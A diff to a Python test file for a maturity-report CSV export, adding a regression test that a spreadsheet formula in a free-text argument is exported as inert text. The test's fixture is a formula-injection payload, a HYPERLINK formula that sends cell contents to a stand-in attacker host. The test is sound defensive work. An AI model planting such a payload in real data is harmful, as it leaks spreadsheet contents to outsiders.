@@ -148,12 +148,22 @@ def test_csv_has_a_bom_every_submitted_score_with_its_argument_and_nothing_else(
     assert response["Content-Type"].startswith("text/csv")
     raw = response.content.decode("utf-8")
     assert raw.startswith("\ufeff")
-    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
+    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))
     assert len(rows) == 1 + 12
     assert rows[1][0] == "1" and rows[1][3] == "Huisartsenkring" and rows[1][5] == "3"
     assert rows[1][6] == f"Omdat ’t zo is; één ({C[0]})"
     assert "kladversie" not in raw
     assert AuditEvent.objects.filter(user=staff, resource_type="MaturityReport", action="R").exists()
+
+
+def test_a_formula_in_an_argument_reaches_the_csv_as_text(round_, staff, invite) -> None:  # noqa: ANN001
+    """Security issue 17 item 12: an argument is free text a spreadsheet must not run."""
+    fill(invite("an"), [3] * 12, '=HYPERLINK("http://evil.example/?leak="&A1,"Details")')
+    raw = client_for(staff).get(reverse("maturity:report_csv", args=[round_.pk])).content.decode("utf-8")
+    header, first = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))[:2]
+    assert len(header) == 7, "the Belgian ';' separator, as every CSV export"
+    assert first[6].startswith("'=HYPERLINK(")
+    assert first[5] == "3"
 
 
 def test_staff_open_a_round_invite_and_bad_input_changes_nothing(zone, staff) -> None:  # noqa: ANN001
